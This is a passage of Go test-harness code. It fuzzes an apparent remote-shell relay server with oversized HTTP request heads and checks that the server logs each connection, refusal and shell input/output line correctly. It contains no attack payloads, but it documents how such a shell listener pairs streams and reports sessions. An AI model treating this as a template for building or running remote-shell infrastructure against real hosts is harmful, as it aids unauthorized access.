		End:      []string{"out-eof", "out-close", "in-close"}[rng.IntN(3)],
	}
	switch p.Size {
	case "4-16K":
		p.Total = 4<<10 + rng.IntN(12<<10)
	case "16-64K":
		p.Total = 16<<10 + rng.IntN(48<<10)
	case "64-256K":
		p.Total = 64<<10 + rng.IntN(192<<10)
	case "256K-1M":
		p.Total = 256<<10 + rng.IntN(bigLimit-4096-256<<10)
	default:
		p.Total = bigLimit - rng.IntN(4096)
	}
	// ---- the head ----
	method := "GET"
	if p.Endpoint != "/i/" {
		method = "POST"
	}
	idLen := 6 + rng.IntN(20)
	ua := "bighead/" + fmt.Sprint(i)
	var query, tail, cookie string
	var lines []string // extra header lines, without CRLF
	budget := p.Total - 200
	take := func(max int) int { // a share of what is left for the kind's own filler
		n := budget
		if n > max {
			n = max
		}
		if n < 0 {
			n = 0
		}
		budget -= n
		return n
	}
	switch p.Kind {
	case "id":
		if p.Endpoint == "/io" {
			tail = bigFill(rng, take(bigMaxID), bigIDChars)
		} else {
			idLen = take(bigMaxID)
		}
	case "query":
		query = "pad=" + bigFill(rng, take(bigMaxID), bigIDChars)
	case "cookie":
		cookie = "session=" + bigFill(rng, take(bigMaxLine-20), bigIDChars)
	case "user-agent":
		ua = "Mozilla/5.0 (" + bigFill(rng, take(bigMaxLine-40), bigValueChars) + ")"
	case "one-header":
		n := take(bigMaxLine - 40)
		lines = append(lines, []string{"Proxy-Authorization: Negotiate ", "X-Forwarded-For: ", "Authorization: Bearer "}[rng.IntN(3)]+bigFill(rng, n, bigIDChars))
	case "mixed":
		b := budget
		if p.Endpoint != "/io" {
			idLen = 4 + take(min(b/2, bigMaxID))
		} else {
			tail = bigFill(rng, take(min(b/2, bigMaxID)), bigIDChars)
		}
		cookie = "a=" + bigFill(rng, take(min(b/8, bigMaxLine/2)), bigIDChars)
		ua = "curl/8 " + bigFill(rng, take(min(b/8, bigMaxLine/2)), bigValueChars)
	}
	p.id = bigFill(rng, idLen, bigIDChars)
	p.target = p.Endpoint
	if p.Endpoint != "/io" {
		p.target += p.id
	} else if tail != "" {
		p.target += "/" + tail
	}
	if query != "" {
		p.target += "?" + query
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "%s %s HTTP/1.1\r\nHost: big.test\r\nUser-Agent: %s\r\n", method, p.target, ua)
	if cookie != "" {
		sb.WriteString("Cookie: " + cookie + "\r\n")
	}
	if method == "POST" {
		sb.WriteString("Transfer-Encoding: chunked\r\n")
	}
	for _, l := range lines {
		sb.WriteString(l + "\r\n")
	}
	// what is left of the total goes into extra header lines: 1-100 of them, of
	// 1-64 KiB each where the total allows ("header-lines": as many as allowed)
	left := p.Total - sb.Len() - 2
	if left > 0 {
		n := 1 + rng.IntN(4)
		if p.Kind == "header-lines" {
			n = 1 + rng.IntN(100)
			if (i/len(bigKinds))%3 == 0 {
				n = 100 // as many as a request may have here
			}
		}
		if min := (left + bigMaxLine - 1) / bigMaxLine; n < min {
			n = min
		}
		if max := left / 16; n > max && max >= 1 {
			n = max
		}
		if left < 16 {
			n = 0
		}
		sameName := rng.IntN(4) == 0
		for x := 0; x < n; x++ {
			sz := left / (n - x) // this line with its CRLF
			if x < n-1 && sz > 64 {
				// uneven lines, none beyond 64 KiB
				d := rng.IntN(sz / 2)
				if sz+d <= bigMaxLine && (left-sz-d) <= (n-x-1)*bigMaxLine && left-sz-d >= (n-x-1)*16 {
					sz += d
				}
			}
			left -= sz
			name := fmt.Sprintf("X-Pad-%d", x)
			if sameName {
				name = "X-Pad"
			}
			l := name + ": "
			if sz-2 <= len(l) {
				continue // (cannot happen: no line is planned shorter than 16 bytes)
			}
			l += bigFill(rng, sz-2-len(l), bigValueChars[:62]+"+/=")
			sb.WriteString(l + "\r\n")
			lines = append(lines, l)
		}
	}
	sb.WriteString("\r\n")
	p.head = sb.String()
	p.Total = len(p.head)
	p.IDLen, p.TailLen, p.QueryLen, p.UALen, p.Cookie, p.NLines = len(p.id), len(tail), len(query), len(ua), len(cookie), len(lines)
	if p.Endpoint == "/io" {
		p.IDLen = 0
	}
	for _, l := range lines {
		if len(l) > p.MaxLine {
			p.MaxLine = len(l)
		}
	}
	// ---- who else is there ----
	switch p.Outcome {
	case "refused-same-direction", "refused-other-id":
		p.OccBigID = p.Outcome == "refused-same-direction" && rng.IntN(2) == 0
	case "refused-full-shell":
		p.OccKind = []string{"io", "i+o"}[rng.IntN(2)]
		p.OccBigID = p.OccKind == "i+o" && rng.IntN(3) == 0
	}
	// ---- traffic of the shell a big request becomes part of ----
	for x, n := 0, 1+rng.IntN(3); x < n; x++ {
		l := fmt.Sprintf("big-line-%d-%d:", i, x) + genData(rng, true)
		p.lines = append(p.lines, strings.ReplaceAll(l, "\n", "\\n"))
	}
	for x, n := 0, 1+rng.IntN(3); x < n; x++ {
		p.chunks = append(p.chunks, fmt.Sprintf("<big-out-%d-%d:", i, x)+genData(rng, false)+">")
	}
	return p
}

func (p bigPlan) dirs() []string {
	switch p.Endpoint {
	case "/io":
		return []string{"input", "output"}
	case "/i/":
		return []string{"input"}
	}
	return []string{"output"}
}

func (p bigPlan) accepted() bool { return strings.HasPrefix(p.Outcome, "accepted") }

// bigConn is one client connection: the head goes out, a reader takes the
// answer and whatever body follows it.
type bigConn struct {
	host string
	tcp  *net.TCPConn
	tc   *tls.Conn

	mu     sync.Mutex
	cond   *sync.Cond
	status int    // final status, 0 = none yet
	got    []byte // body bytes of the answer
	ended  bool   // the reader is done (answer complete, or the connection ended)
}

func bigDial(host, addr string) (*bigConn, error) {
	tcp, err := dialFrom(host, addr)
	if err != nil {
		return nil, fmt.Errorf("dial: %w", err)
	}
	tc := tls.Client(tcp, &tls.Config{InsecureSkipVerify: true})
	tc.SetDeadline(time.Now().Add(hk.Bound))
	if err := tc.Handshake(); err != nil {
		tcp.Close()
		return nil, fmt.Errorf("handshake: %w", err)
	}
	tc.SetDeadline(time.Time{})
	c := &bigConn{host: host, tcp: tcp, tc: tc}
	c.cond = sync.NewCond(&c.mu)
	return c, nil
}

// send writes bytes (bounded).
func (c *bigConn) send(s string) error {
	c.tc.SetWriteDeadline(time.Now().Add(hk.Bound))
	_, err := io.WriteString(c.tc, s)
	return err
}

// read starts the reader.
func (c *bigConn) read(method string) {
	go func() {
		br := bufio.NewReader(c.tc)
		for {
			hr, err := http.ReadResponse(br, &http.Request{Method: method})
			if err != nil {
				break
			}
			if hr.StatusCode < 200 {
				continue
			}
			c.mu.Lock()
			c.status = hr.StatusCode
			c.mu.Unlock()
			c.cond.Broadcast()
			buf := make([]byte, 4096)
			for {
				n, rerr := hr.Body.Read(buf)
				if n > 0 {
					c.mu.Lock()
					c.got = append(c.got, buf[:n]...)
					c.mu.Unlock()
					c.cond.Broadcast()
				}
				if rerr != nil {
					break
				}
			}
			break
		}
		c.mu.Lock()
		c.ended = true
		c.mu.Unlock()
		c.cond.Broadcast()
	}()
}

// await waits (bounded by d) until pred holds of the connection's state.
func (c *bigConn) await(d time.Duration, pred func() bool) bool {
	t := time.AfterFunc(d, func() { c.cond.Broadcast() })
	defer t.Stop()
	deadline := time.Now().Add(d)
	c.mu.Lock()
	defer c.mu.Unlock()
	for !pred() {
		if !time.Now().Before(deadline) {
			return false
		}
		c.cond.Wait()
	}
	return true
}

// state: the answer's status (0 = none), whether the reader is done, and the body bytes so far.
func (c *bigConn) state() (status int, ended bool, got string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.status, c.ended, string(c.got)
}

func (c *bigConn) close(tlsClose bool) {
	if tlsClose {
		c.tc.SetWriteDeadline(time.Now().Add(hk.Bound))
		c.tc.Close()
	}
	c.tcp.Close()
}

func isTimeout(err error) bool {
	var ne net.Error
	return errors.Is(err, os.ErrDeadlineExceeded) || (errors.As(err, &ne) && ne.Timeout())
}

func shorten(s string) string {
	if len(s) > 500 {
		return s[:300] + " … " + s[len(s)-200:]
	}
	return s
}

// bigRec is one decoded record of the JSON log.
type bigRec struct {
	Host, Level, Msg, Dir, Data, Raw string
}

// bigCase plays one case on a broker nobody is attached to and judges it;
// false = the server cannot be used any further.
func bigCase(r *mon.Run, s *hk.Server, i int, p bigPlan, rng *rand.Rand) bool {
	start := s.Log.Len()
	res := bigResult{Plan: p, ReqLine: trunc(strings.SplitN(p.head, "\r\n", 2)[0])}
	what := fmt.Sprintf("%s (a head of %d bytes: id %d, path tail %d, query %d, %d extra header lines of up to %d, User-Agent %d, Cookie %d)", res.ReqLine, p.Total, p.IDLen, p.TailLen, p.QueryLen, p.NLines, p.MaxLine, p.UALen, p.Cookie)
	var conns []*bigConn
	defer func() {
		for _, c := range conns {
			c.tcp.Close()
		}
	}()
	incon := func(f string, a ...any) bool {
		r.Inconclusive(fmt.Sprintf("bighead case %d (%s %s %s %s): ", i, p.Endpoint, p.Outcome, p.Kind, p.Size) + fmt.Sprintf(f, a...))
		return false
	}
	violAt := func(evs []bk.Event, host, key, text string) {
		var tail []string
		for _, e := range evs {
			if (e.Kind == "op" && !e.Plain || e.Kind == "json") && strings.Contains(e.S, host) {
				tail = append(tail, e.Kind+": "+shorten(strings.TrimSpace(e.S)))
			}
		}
		r.Violate("bighead", i, key, text, map[string]any{"client": res, "notices_and_records_of_this_address": tail})
	}
	// noRecordOf: the server has finished with every connection and nothing in
	// the log or on the operator's terminal is about host
	noRecordOf := func(host string) (evs []bk.Event, none bool, err error) {
		if err := noServing(); err != nil {
			return nil, false, err
		}
		mseq, ok := s.Mark(fmt.Sprintf("MARK-BIGHEAD-%d-%s", i, host))
		if !ok {
			return nil, false, errors.New("marker lost")
		}
		evs = s.Log.Snapshot()[start:mseq]
		about := aboutHost(host)
		for _, e := range evs {
			if about(e) {
				return evs, false, nil
			}
		}
		return evs, true, nil
	}
	// small: somebody else's connection, with an ordinary head but for the id,
	// which is the big request's where the two have to match; attached when
	// the operator is told `notice` about it
	small := func(host, dir, id, notice string) (*bigConn, bool) {
		c, err := bigDial(host, s.Addr)
		if err != nil {
			return nil, incon("%v", err)
		}
		conns = append(conns, c)
		var req, method string
		switch dir {
		case "input":
			method, req = "GET", "GET /i/"+id+" HTTP/1.1\r\nHost: other\r\n\r\n"
		case "output":
			method, req = "POST", "POST /o/"+id+" HTTP/1.1\r\nHost: other\r\nTransfer-Encoding: chunked\r\n\r\n"
		default:
			method, req = "POST", "POST /io HTTP/1.1\r\nHost: other\r\nTransfer-Encoding: chunked\r\n\r\n"
		}
		c.read(method)
		werr := c.send(req)
		if werr != nil && isTimeout(werr) {
			return nil, incon("the other connection's request could not be sent within %s", hk.Bound)
		}
		if notice == "" {
			return c, true
		}
		pre := "[" + host + "] "
		deadline := time.Now().Add(hk.Bound)
		for {
			if _, ok := s.Log.Find(start, func(e bk.Event) bool {
				return e.Kind == "op" && !e.Plain && strings.HasPrefix(e.S, pre) && strings.Contains(e.S, notice)
			}); ok {
				return c, true
			}
			time.Sleep(time.Millisecond)
			st, ended, _ := c.state()
			if (st != 0 || ended) && dir != "io" {
				// answered, or cut off, instead of attached: its head is as big as its id
				if len(req) <= 4096 {
					return nil, incon("the other connection (%s, small head) was answered with status %d instead of being attached", dir, st)
				}
				evs, none, err := noRecordOf(host)
				if err != nil {
					return nil, incon("%v", err)
				}
				if !none {
					return nil, incon("the other connection (%s, a head of %d bytes) was answered with status %d instead of being attached", dir, len(req), st)
				}
				r.Count("bighead_cases_cut_short", 1)
				violAt(evs, host, "bighead-turned-away-without-record", fmt.Sprintf("the stream request %q from %s (a head of %d bytes, which an unchanged net/http serves), sent while nothing stood in its way, was turned away (status %d, 0 = the connection was ended without an answer; error sending the head: %v); the JSON log holds no record of it: neither a connect record nor an error record naming why it was refused", trunc(strings.SplitN(req, "\r\n", 2)[0]), host, len(req), st, werr))
				return nil, false
			}
			if time.Now().After(deadline) {
				return nil, incon("the other connection (%s) did not attach within %s", dir, hk.Bound)
			}
		}
	}
	title := func(d string) string { return strings.ToUpper(d[:1]) + d[1:] }
	other := map[string]string{"input": "output", "output": "input"}
	otherID := fmt.Sprintf("other-%d", i)
	type occupant struct {
		host string
		dirs []string
	}
	var occs []occupant
	var inC, outC *bigConn // the two sides of the shell that carries traffic
	setSide := func(d string, c *bigConn) {
		if d == "input" {
			inC = c
		} else {
			outC = c
		}
	}
	// ---- who is there before the big request ----
	switch p.Outcome {
	case "accepted-second":
		if p.Endpoint != "/io" {
			d := other[p.dirs()[0]]
			c, ok := small(p.Partner, d, p.id, title(d)+" connected")
			if !ok {
				return false
			}
			occs = append(occs, occupant{p.Partner, []string{d}})
			setSide(d, c)
		}
	case "refused-same-direction", "refused-other-id":
		d := p.dirs()[rng.IntN(len(p.dirs()))]
		if p.Outcome == "refused-other-id" && p.Endpoint != "/io" {
			d = other[d]
		}
		id := otherID
		if p.OccBigID && p.Endpoint != "/io" {
			id = p.id
		}
		if _, ok := small(p.Partner, d, id, title(d)+" connected"); !ok {
			return false
		}
		occs = append(occs, occupant{p.Partner, []string{d}})
	case "refused-full-shell":
		if p.OccKind == "io" {
			if _, ok := small(p.Partner, "io", "", "Shell is ready"); !ok {
				return false
			}
		} else {
			id := otherID
			if p.OccBigID && p.Endpoint != "/io" {
				id = p.id
			}
			if _, ok := small(p.Partner, "input", id, "Input connected"); !ok {
				return false
			}
			if _, ok := small(p.Partner, "output", id, "Shell is ready"); !ok {
				return false
			}
		}
		occs = append(occs, occupant{p.Partner, []string{"input", "output"}})
	}
	// ---- the big request ----
	from := s.Log.Len()
	big, err := bigDial(p.Host, s.Addr)
	if err != nil {
		return incon("%v", err)
	}
	conns = append(conns, big)
	big.read(strings.SplitN(p.head, " ", 2)[0])
	if werr := big.send(p.head); werr != nil {
		if isTimeout(werr) {
			return incon("the head could not be sent within %s", hk.Bound)
		}
		res.WriteErr = werr.Error() // the program stopped listening; what it answered, if anything, is read below
	}
	if !p.accepted() && p.Endpoint != "/i/" && res.WriteErr == "" && rng.IntN(2) == 0 {
		// a request that will be refused brings output along: nobody must get it, no record must hold it
		big.send("e\r\nREFUSED-OUTPUT\r\n")
	}
	// the first thing the program lets anybody see about this request: an
	// answer, the end of the connection, a notice or a record
	about := aboutHost(p.Host)
	deadline := time.Now().Add(hk.Bound)
	for {
		if e, ok := s.Log.Find(from, about); ok {
			res.Evidence = e.Kind + ": " + shorten(strings.TrimSpace(e.S))
			break
		}
		time.Sleep(time.Millisecond)
		if st, ended, _ := big.state(); st != 0 || ended {
			// records and notices of a handler precede its answer
			if e, ok := s.Log.Find(from, about); ok {
				res.Evidence = e.Kind + ": " + shorten(strings.TrimSpace(e.S))
			}
			break
		}
		if time.Now().After(deadline) {
			res.Note = "no answer, notice or record within " + hk.Bound.String()
			break
		}
	}
	res.Status, res.ConnEnded, _ = big.state()
	res.ConnEnded = res.ConnEnded && res.Status == 0
	attached := false
	if p.accepted() && res.Note == "" && (res.Status == 0 || res.Status == 200 && p.Endpoint == "/io") && !res.ConnEnded {
		// is it in?  (a connect record of this address; an error record says it is not)
		ra := `"remote_addr":"` + p.Host + `:`
		e, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
			return e.Kind == "json" && strings.Contains(e.S, ra) && (strings.Contains(e.S, `"msg":"`+bk.MsgNew+`"`) || strings.Contains(e.S, `"level":"ERROR"`))
		})
		attached = ok && strings.Contains(e.S, `"msg":"`+bk.MsgNew+`"`)
		if !ok {
			res.Note = "neither attached nor refused within " + hk.Bound.String()
		}
	}
	// ---- the shell the big request is part of: complete it, use it, end it ----
	var typed, sent strings.Builder
	trafficDone := false
	if attached {
		for _, d := range p.dirs() {
			setSide(d, big)
		}
		if p.Outcome == "accepted-first" && p.Endpoint != "/io" {
			d := other[p.dirs()[0]]
			c, ok := small(p.Partner, d, p.id, "Shell is ready")
			if !ok {
				return false
			}
			occs = append(occs, occupant{p.Partner, []string{d}})
			setSide(d, c)
		}
		if inC == nil || outC == nil {
			return incon("internal: shell incomplete")
		}
		if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
			return e.Kind == "op" && !e.Plain && strings.Contains(e.S, "Shell is ready")
		}); !ok {
			return incon("the shell of the big request did not become ready")
		}
		nl, nc := 0, 0
		for nl < len(p.lines) || nc < len(p.chunks) {
			if nl < len(p.lines) && (nc >= len(p.chunks) || rng.IntN(2) == 0) {
				l := p.lines[nl]
				nl++
				s.Ich <- l
				typed.WriteString(l + "\n")
				want := typed.Len()
				inC.await(hk.Bound, func() bool { return len(inC.got) >= want || inC.ended })
				if _, _, got := inC.state(); len(got) < want {
					return incon("typed line %d did not reach the input side", nl)
				}
			} else {
				c := p.chunks[nc]
				nc++
				pos := s.Log.Len()
				if err := outC.send(fmt.Sprintf("%x\r\n%s\r\n", len(c), c)); err != nil {
					return incon("output chunk not sent: %v", err)
				}
				sent.WriteString(c)
				n := 0
				if _, ok := s.Log.Wait(pos, hk.Bound, func(e bk.Event) bool {
					if e.Kind == "op" && e.Plain {
						n += len(e.S)
					}
					return n >= len(c)
				}); !ok {
					return incon("output chunk %d did not reach the operator", nc)
				}
			}
		}
		trafficDone = true
		if _, _, got := inC.state(); got[:typed.Len()] != typed.String() {
			return incon("the input side read %q, typed was %q", trunc(got), trunc(typed.String()))
		}
		switch p.End {
		case "out-eof":
			if err := outC.send("0\r\n\r\n"); err != nil {
				return incon("end of output not sent: %v", err)
			}
			if !outC.await(hk.Bound, func() bool { return outC.ended }) {
				return incon("the output side's request was not answered after its body ended")
			}
		case "out-close":
			outC.close(rng.IntN(2) == 0)
		default:
			inC.close(rng.IntN(2) == 0)
		}
		if _, ok := s.Log.Wait(from, hk.Bound, func(e bk.Event) bool {
			return e.Kind == "op" && !e.Plain && strings.Contains(e.S, "Shell is gone")
		}); !ok {
			return incon("the shell did not end")
		}
	} else if res.Note == "" {
		// the answer the program owes a request it does not attach
		if !big.await(hk.Bound, func() bool { return big.ended }) {
			res.Note = "not attached and not answered within " + hk.Bound.String()
		}
		res.Status, res.ConnEnded, _ = big.state()
		res.ConnEnded = res.ConnEnded && res.Status == 0
	}
	for _, c := range conns {
		c.close(false)
	}
	if err := noServing(); err != nil {
		return incon("%v", err)
	}
	mseq, ok := s.Mark(fmt.Sprintf("MARK-BIGHEAD-%d", i))
	if !ok {
		return incon("marker lost")
	}
	evs := s.Log.Snapshot()[start:mseq]
	viol := func(host, key, text string) { violAt(evs, host, key, text) }
	// ---- what the operator was told and what the log holds, per source address ----
	ops := map[string][]string{}
	recs := map[string][]bigRec{}
	var plain []string
	var inRecs, outRecs []bigRec
	for _, e := range evs {
		switch e.Kind {
		case "op":
			if e.Plain {
				plain = append(plain, e.S)
				continue
			}
			if m := noticeRe.FindStringSubmatch(e.S); m != nil {
				ops[m[1]] = append(ops[m[1]], shorten(m[2]))
			}
		case "json":
			r.Count("bighead_json_lines", 1)
			var m map[string]any
			dec := json.NewDecoder(strings.NewReader(e.S))
			if err := dec.Decode(&m); err != nil || !strings.HasSuffix(e.S, "\n") || strings.Count(e.S, "\n") != 1 || dec.More() {
				viol(p.Host, "log-line-not-json", fmt.Sprintf("a log write is not one complete one-line JSON object: %q", shorten(e.S)))
				continue
			}
			rc := bigRec{Raw: shorten(strings.TrimSpace(e.S))}
			rc.Level, _ = m["level"].(string)
			rc.Msg, _ = m["msg"].(string)
			rc.Dir, _ = m["direction"].(string)
			rc.Data, _ = m["data"].(string)
			hr, _ := m["http_request"].(map[string]any)
			ra, _ := hr["remote_addr"].(string)
			host, _, err := net.SplitHostPort(ra)
			if err != nil {
				continue
			}
			rc.Host = host
			if rc.Msg == bk.MsgShellIO {
				switch rc.Dir {
				case "input":
					inRecs = append(inRecs, rc)
				case "output":
					outRecs = append(outRecs, rc)
				default:
					viol(host, "io-record-without-direction", "Shell I/O record without a direction: "+rc.Raw)
				}
			}
			recs[host] = append(recs[host], rc)
			if len(e.S) > 12<<10 {
				r.Count("bighead_records_longer_than_12K", 1)
			}
		}
	}
	// ---- the big request itself ----
	r.Count("bighead_cases", 1)
	r.Count("bighead_endpoint:"+p.Endpoint, 1)
	r.Count("bighead_outcome:"+p.Outcome, 1)
	r.Count("bighead_kind:"+p.Kind, 1)
	r.Count("bighead_size:"+p.Size, 1)
	told, got := ops[p.Host], recs[p.Host]
	if res.Note != "" {
		r.Inconclusive(fmt.Sprintf("bighead case %d: %s: %s", i, what, res.Note))
		return false
	}
	if len(got) == 0 {
		like := map[bool]string{true: "a connect and a disconnect record", false: "an error record naming the reason"}[p.accepted()]
		switch {
		case len(told) > 0:
			viol(p.Host, "operator-told-but-no-log-record", fmt.Sprintf("the operator was told %q about the request %s from %s but the JSON log holds no record of it", told[0], what, p.Host))
		case res.Status == 200:
			viol(p.Host, "handled-stream-has-no-record", fmt.Sprintf("the request %s from %s was answered by the handler but the JSON log holds no record of it", what, p.Host))
		default:
			viol(p.Host, "bighead-turned-away-without-record", fmt.Sprintf("the stream request %s from %s, which an unchanged net/http serves, was turned away (status %d, 0 = the connection was ended without an answer; error sending the head: %q); the JSON log holds no record of it: neither a connect/disconnect pair nor an error record naming why it was refused (a request with a small head has %s in this situation: %s)", what, p.Host, res.Status, res.WriteErr, like, p.Outcome))
		}
		return true
	}
	r.Count("bighead_handled", 1)
	r.Count("bighead_handled_size:"+p.Size, 1)
	r.Count("bighead_handled_kind:"+p.Kind, 1)
	// judgeStreams: a connect and a disconnect record, or an error record naming
	// a reason, for each direction of one address
	judgeStreams := func(host string, dirs []string, whatReq string, client bool) (admitted, refused int) {
		for _, d := range dirs {
			news, discs, refs := 0, 0, 0
			reason := ""
			for _, rc := range recs[host] {
				if rc.Dir != d && !(rc.Dir == "" && isRefusalRecord(rc.Level, rc.Msg)) {
					continue
				}
				switch {
				case rc.Msg == bk.MsgNew:
					news++
				case rc.Msg == bk.MsgDisconnected:
					discs++
				case rc.Msg == bk.MsgShellIO:
					if news == 0 || discs != 0 {
						viol(host, "io-record-of-unattached-stream", fmt.Sprintf("Shell I/O record outside the connect and disconnect records of the %s stream of %s: %s", d, host, rc.Raw))
					}
				case isRefusalRecord(rc.Level, rc.Msg):
					refs++
					reason = rc.Msg
				}
			}
			switch {
			case news == 1 && discs == 1 && refs == 0:
				admitted++
				if client {
					r.Count("bighead_streams_admitted", 1)
					r.Count("bighead_admitted:"+p.Endpoint, 1)
				} else {
					r.Count("bighead_other_streams_admitted", 1)
				}
			case news == 0 && discs == 0 && refs >= 1:
				refused++
				if client {
					r.Count("bighead_streams_refused", 1)
					r.Count("bighead_refused:"+p.Endpoint, 1)
					r.Count("bighead_refusal:"+reason, 1)
				} else {
					viol(host, "refusal-record-count", fmt.Sprintf("the %s stream of %s (%s), which the operator was told is connected, has no connect record", d, host, whatReq))
				}
			case news == 0 && discs == 0:
				viol(host, "refusal-record-count", fmt.Sprintf("the %s stream of %s (%s) was handled but has neither a connect record nor an error record naming why it was turned away", d, host, whatReq))
			case news != 1 || refs != 0:
				viol(host, "connect-record-count", fmt.Sprintf("the %s stream of %s (%s) has %d New connection records and %d error records naming a refusal", d, host, whatReq, news, refs))
			default:
				viol(host, "disconnect-record-count", fmt.Sprintf("the %s stream of %s (%s) has %d New connection and %d Disconnected records although the server has finished with the connection", d, host, whatReq, news, discs))
			}
		}
		return
	}
	adm, ref := judgeStreams(p.Host, p.dirs(), what, true)
	if p.accepted() && ref != 0 {
		// the log is in order, the program is not (nothing stood in the request's way): not this property's business
		r.Inconclusive(fmt.Sprintf("bighead case %d: %s was refused although nothing stood in its way", i, what))
	}
	if !p.accepted() && adm != 0 {
		r.Inconclusive(fmt.Sprintf("bighead case %d: %s was attached although its place was taken", i, what))
	}
	for _, o := range occs {
		judgeStreams(o.host, o.dirs, "somebody else's request", false)
	}
	// ---- traffic: one record per typed line, one per chunk handed to the operator ----
	var wantIn []string
	if trafficDone {
		for _, l := range p.lines {
			wantIn = append(wantIn, l+"\n") // what was written to the input side
		}
	}
	for x := 0; x < len(wantIn) || x < len(inRecs); x++ {
		switch {
		case x >= len(inRecs):
			viol(p.Host, "delivered-input-not-logged", fmt.Sprintf("line %q reached the input side of the shell of %s but has no Shell I/O record (%d lines, %d records)", trunc(wantIn[x]), what, len(wantIn), len(inRecs)))
			x = len(wantIn)
		case x >= len(wantIn):
			viol(p.Host, "undelivered-input-logged", fmt.Sprintf("Shell I/O input record %s has no typed line (%d lines, %d records)", inRecs[x].Raw, len(wantIn), len(inRecs)))
			x = len(inRecs)
		case inRecs[x].Data != toValid(wantIn[x]):
			viol(p.Host, "input-record-mismatch", fmt.Sprintf("input record #%d is %q, line #%d was %q", x, trunc(inRecs[x].Data), x, trunc(toValid(wantIn[x]))))
			x = len(wantIn) + len(inRecs)
		case inC != nil && inRecs[x].Host != inC.host:
			viol(p.Host, "input-record-mismatch", fmt.Sprintf("input record #%d names %s, the input side was %s", x, inRecs[x].Host, inC.host))
			x = len(wantIn) + len(inRecs)
		default:
			r.Count("bighead_input_records", 1)
		}
	}
	for x := 0; x < len(plain) || x < len(outRecs); x++ {
		switch {
		case x >= len(outRecs):
			viol(p.Host, "delivered-output-not-logged", fmt.Sprintf("chunk %q was handed to the operator but has no Shell I/O record (%d chunks, %d records; shell of %s)", trunc(plain[x]), len(plain), len(outRecs), what))
			x = len(plain)
		case x >= len(plain):
			viol(p.Host, "undelivered-output-logged", fmt.Sprintf("Shell I/O output record %s has no chunk on the operator channel (%d chunks, %d records)", outRecs[x].Raw, len(plain), len(outRecs)))
			x = len(outRecs)
		case outRecs[x].Data != toValid(plain[x]):
			viol(p.Host, "output-record-mismatch", fmt.Sprintf("output record #%d is %q but chunk #%d was %q", x, trunc(outRecs[x].Data), x, trunc(toValid(plain[x]))))
			x = len(plain) + len(outRecs)
		case outC != nil && outRecs[x].Host != outC.host:
			viol(p.Host, "output-record-mismatch", fmt.Sprintf("output record #%d names %s, the output side was %s", x, outRecs[x].Host, outC.host))
			x = len(plain) + len(outRecs)
		default:
			r.Count("bighead_output_records", 1)
		}
	}
	if all := strings.Join(plain, ""); all != sent.String() {
		// (what the operator gets is another property's business; the records were compared with it above)
		r.Inconclusive(fmt.Sprintf("bighead case %d: the operator was handed %q as shell output, the shell sent %q", i, trunc(all), trunc(sent.String())))
	}
	if trafficDone {
		r.Count("bighead_shells_with_traffic", 1)
		r.Count("bighead_traffic:"+p.Endpoint, 1)
	}
	for name, v := range map[string]int{"bighead_largest_head_bytes": p.Total, "bighead_most_header_lines": p.NLines, "bighead_longest_id_bytes": p.IDLen, "bighead_longest_header_line_bytes": p.MaxLine} {
		if d := int64(v) - r.Counter(name); d > 0 {
			r.Count(name, d)
		}
	}
	r.Eval(1)
	r.Distinct(fmt.Sprintf("bighead|%s|%s|%s|%s", p.Endpoint, p.Outcome, p.Kind, p.Size))
	if i < 3 {
		r.Sample("bighead", res)
	}
	return true
}

// bigHeads runs the cases one after the other (quiescence is decided by
// looking at the whole process, as in the aborts and shapes engines), a fresh
// server every bigCasesPerRound cases.
func bigHeads(r *mon.Run) {
	period := len(bigEndpoints) * len(bigOutcomes) * len(bigKinds)
	n := r.N(period, 5*period)
	var s *hk.Server
	defer func() {
		if s != nil {
			s.Stop()
		}
	}()
	for i := 0; i < n; i++ {
		k, j := i/bigCasesPerRound, i%bigCasesPerRound
		if !r.Want("bighead", i) {
			continue
		}
		if s == nil || j == 0 {
			if s != nil {
				s.Stop()
				s = nil
			}
			var err error
			if s, err = hk.Start(hk.Config{}); err != nil {
				s = nil
				r.Inconclusive("bighead: server did not start: " + err.Error())
				return
			}
		}
		rng := r.Rng("bighead", i)
		if !bigCase(r, s, i, planBig(i, k, j, rng), rng) {
			// the server may be in any state: take a fresh one
			s.Stop()
			s = nil
		}
	}
	nn := int64(n)
	r.Floor("bighead_cases", nn)
	r.Floor("bighead_handled", nn)
	for _, v := range bigEndpoints {
		per := nn / int64(len(bigEndpoints))
		r.Floor("bighead_endpoint:"+v, per)
		r.Floor("bighead_admitted:"+v, per*2/5)
		r.Floor("bighead_refused:"+v, per*3/5)
		r.Floor("bighead_traffic:"+v, per*2/5)
	}
	for _, v := range bigOutcomes {
		r.Floor("bighead_outcome:"+v, nn/int64(len(bigOutcomes)))
	}
	for _, v := range bigKinds {
		r.Floor("bighead_kind:"+v, nn/int64(len(bigKinds)))
		r.Floor("bighead_handled_kind:"+v, nn/int64(len(bigKinds)))
	}
	for _, v := range bigSizes {
		r.Floor("bighead_size:"+v, nn/int64(len(bigSizes)))
		r.Floor("bighead_handled_size:"+v, nn/int64(len(bigSizes)))
	}
	r.Floor("bighead_refusal:Connection already established", nn*4/15) // the /i/ and /o/ requests whose direction is taken
	r.Floor("bighead_refusal:Incorrect key", nn*2/15)                  // the /i/ and /o/ requests that meet the other direction under another id
	r.Floor("bighead_shells_with_traffic", nn*2/5)
	r.Floor("bighead_input_records", nn*2/5)
	r.Floor("bighead_output_records", nn*2/5)
	r.Floor("bighead_other_streams_admitted", nn*3/5)
	r.Floor("bighead_records_longer_than_12K", nn/3)
	r.Floor("bighead_largest_head_bytes", bigLimit-4096)
	r.Floor("bighead_most_header_lines", 100)
	r.Floor("bighead_longest_header_line_bytes", bigMaxLine-4096)
	r.Floor("bighead_longest_id_bytes", bigMaxID)
}

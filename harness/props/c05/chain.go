package c05

// Certificate caches the program did not write itself: the "cert" section
// holds a chain (leaf first, then its issuers), made by the harness with
// crypto/x509 as a small CA hierarchy, with different key types for leaf and
// issuers, text between the PEM blocks, other private-key encodings and other
// archive layouts.  The oracle is the one of all other cases: what the process
// advertises is the pin of the certificate it presents in handshakes.

import (
	"bytes"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	crand "crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
